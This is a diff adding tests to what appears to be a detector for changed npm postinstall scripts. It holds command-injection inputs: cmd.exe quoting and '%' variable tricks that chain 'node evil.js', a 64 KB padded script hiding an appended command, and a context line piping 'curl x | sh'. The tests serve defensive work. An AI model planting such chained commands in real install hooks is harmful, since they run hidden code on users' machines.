@@ -305,3 +305,24 @@ it("quotes the script that another one runs by name", () => {
   );
   expect(changed?.text).toBe("npm run setup; setup: curl x | sh");
 });
+
+// Windows has npm run scripts with cmd.exe, to which single quotes are letters, and `%` is a variable.
+it.each([
+  "echo 'thanks & node evil.js'",
+  "echo '&node evil.js&'",
+  "echo 'a | node evil.js'",
+  "echo 'a > evil.cmd'",
+  "echo %npm_package_config_a%",
+  'echo "%npm_package_config_a%"',
+  'echo ^" & node evil.js',
+])("%j may do more than speak", (after) => {
+  expect(change({ postinstall: "echo thanks" }, { postinstall: after })).toBe("other");
+});
+
+it("a script of which only the beginning is kept is another one", () => {
+  const long = `echo thanks ${"x".repeat(64 * 1024)}`;
+  const many = Object.fromEntries(Array.from({ length: 51 }, (_, at) => [`a${at}`, "echo a"]));
+  expect(change({ postinstall: "echo thanks" }, { postinstall: `${long}; node evil.js` })).toBe("other");
+  expect(change({ postinstall: "run-s a*" }, { postinstall: "run-s a*", ...many })).toBe("other");
+  expect(change({ postinstall: "run-s a*", ...many }, { postinstall: "run-s a*", ...many })).toBe("other");
+});
